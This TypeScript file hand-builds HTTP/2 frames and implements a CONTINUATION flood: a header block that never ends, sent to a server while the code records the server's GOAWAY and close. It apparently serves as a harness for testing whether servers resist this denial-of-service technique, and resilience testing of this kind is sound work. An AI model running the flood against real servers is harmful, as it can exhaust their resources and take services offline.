// HTTP/2 frames written by hand (RFC 9113 §4.1), for what node:http2 will not send: a
// header block that never ends. Header fields are HPACK literals without indexing, new
// name, no Huffman (RFC 7541 §6.2.2), so no decoder state is involved.
import type { Socket } from "node:net";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const DATA = 0x0;
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const GOAWAY = 0x7;
const CONTINUATION = 0x9;
const END_STREAM = 0x1;
const ACK = 0x1;
const END_HEADERS = 0x4;
/** GOAWAY and RST_STREAM error codes (RFC 9113 §7), by value. */
const ERROR_CODES = [
  "NO_ERROR",
  "PROTOCOL_ERROR",
  "INTERNAL_ERROR",
  "FLOW_CONTROL_ERROR",
  "SETTINGS_TIMEOUT",
  "STREAM_CLOSED",
  "FRAME_SIZE_ERROR",
  "REFUSED_STREAM",
  "CANCEL",
  "COMPRESSION_ERROR",
  "CONNECT_ERROR",
  "ENHANCE_YOUR_CALM",
  "INADEQUATE_SECURITY",
  "HTTP_1_1_REQUIRED",
];

/** One frame: 24-bit length, type, flags, 31-bit stream id, payload. */
function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK integer with a 7-bit prefix (RFC 7541 §5.1), the top bit 0 (no Huffman). */
function hpackInt(value: number): Buffer {
  if (value < 127) return Buffer.from([value]);
  const out = [127];
  for (value -= 127; value >= 128; value = Math.floor(value / 128)) out.push((value % 128) | 128);
  out.push(value);
  return Buffer.from(out);
}

/** Header fields as HPACK "literal without indexing, new name" representations. */
export function literals(fields: [string, string][]): Buffer {
  return Buffer.concat(
    fields.flatMap(([name, value]) => [Buffer.from([0x00]), hpackInt(name.length), Buffer.from(name), hpackInt(Buffer.byteLength(value)), Buffer.from(value)]),
  );
}

/** What the client saw of the server while flooding. */
export interface FloodResult {
  /** CONTINUATION frames written before the server's GOAWAY or close was seen (or all of them). */
  written: number;
  /** The GOAWAY's error code by name, if one came, and when (ms from the preface). */
  goaway?: string;
  goawayMs?: number;
  /** When the server closed the socket (FIN or reset), if it did. */
  closedMs?: number;
  /** The socket error that came with the close, if any (ECONNRESET: a GOAWAY sent just before may be lost). */
  error?: string;
  /** With `finish`: the DATA the server sent on the stream once it ended it, or its RST_STREAM code. */
  response?: Buffer;
  reset?: string;
}

const tick = () => new Promise((r) => setTimeout(r, 1));
/** `p`, or nothing after `ms`. */
function within(p: Promise<unknown>, ms: number): Promise<unknown> {
  let timer: NodeJS.Timeout | undefined;
  return Promise.race([p, new Promise((r) => (timer = setTimeout(r, Math.max(0, ms))))]).finally(() => clearTimeout(timer));
}

/**
 * On a connected socket (TCP, or TLS with ALPN h2): the preface, SETTINGS, a HEADERS frame for
 * a POST to `path` without END_HEADERS, then up to `count` CONTINUATION frames (none with
 * END_HEADERS) carrying `payload(i)`, `batch` at a time, a batch once the last has left the
 * process and a timer has fired (so the server gets to answer). Stops at the server's GOAWAY
 * or close, or after `timeoutMs`; after a GOAWAY, waits up to a second for the close.
 * With `finish` (the control: the same framing, a request the server must serve), the block
 * is then ended and `finish` sent as the body, and the answer waited for.
 */
export async function continuationFlood(
  socket: Socket,
  path: string,
  count: number,
  payload: (i: number) => Buffer,
  { batch = 10, timeoutMs = 10_000, finish }: { batch?: number; timeoutMs?: number; finish?: Buffer } = {},
): Promise<FloodResult> {
  const result: FloodResult = { written: 0 };
  // Each batch goes out at once: Nagle would hold small writes for the server's delayed ACK (~40 ms).
  socket.setNoDelay(true);
  const started = performance.now();
  let inBlock = false;
  let pending = Buffer.alloc(0);
  const over = () => result.closedMs !== undefined || result.goaway !== undefined;
  const closed = new Promise<void>((resolve) => {
    const close = () => {
      result.closedMs ??= performance.now() - started;
      resolve();
    };
    socket.on("close", close);
    socket.on("end", close);
    socket.on("error", (err: NodeJS.ErrnoException) => void (result.error ??= err.code ?? err.message)); // the close follows
  });
  let settled = () => undefined as void;
  const serverSettings = new Promise<void>((resolve) => (settled = resolve));
  let answered = () => undefined as void;
  const answer = new Promise<void>((resolve) => (answered = resolve));
  const data: Buffer[] = [];
  socket.on("data", (chunk: Buffer) => {
    for (pending = Buffer.concat([pending, chunk]); pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3);) {
      const length = pending.readUIntBE(0, 3);
      const [type, flags, stream] = [pending[3], pending[4]!, pending.readUInt32BE(5) & 0x7fffffff];
      const body = pending.subarray(9, 9 + length);
      pending = pending.subarray(9 + length);
      // Acknowledged before the header block starts: any other frame inside it is a PROTOCOL_ERROR.
      if (type === SETTINGS && !(flags & ACK) && !socket.destroyed && !inBlock) socket.write(frame(SETTINGS, ACK, 0), settled);
      if (type === GOAWAY && result.goaway === undefined) {
        result.goawayMs = performance.now() - started;
        const code = body.readUInt32BE(4);
        result.goaway = ERROR_CODES[code] ?? `0x${code.toString(16)}`;
      }
      if (stream === 1 && type === DATA) data.push(body);
      if (stream === 1 && (type === DATA || type === HEADERS) && flags & END_STREAM) {
        result.response = Buffer.concat(data);
        answered();
      }
      if (stream === 1 && type === RST_STREAM) {
        result.reset = ERROR_CODES[body.readUInt32BE(0)];
        answered();
      }
    }
  });
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
  await within(Promise.race([serverSettings, closed]), timeoutMs);
  const pseudo = literals([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "127.0.0.1"],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ]);
  inBlock = true;
  if (!over()) socket.write(frame(HEADERS, 0, 1, pseudo));
  const deadline = performance.now() + timeoutMs;
  while (result.written < count && !over() && performance.now() < deadline) {
    const n = Math.min(batch, count - result.written);
    socket.write(Buffer.concat(Array.from({ length: n }, (_, i) => frame(CONTINUATION, 0, 1, payload(result.written + i)))));
    result.written += n;
    do await tick();
    while (socket.writableLength > 0 && !over() && performance.now() < deadline);
  }
  if (finish && !over()) {
    socket.write(Buffer.concat([frame(CONTINUATION, END_HEADERS, 1), frame(DATA, END_STREAM, 1, finish)]));
    await within(Promise.race([answer, closed]), deadline - performance.now());
  } else {
    await within(closed, result.goaway === undefined ? deadline - performance.now() : 1000);
  }
  return result;
}
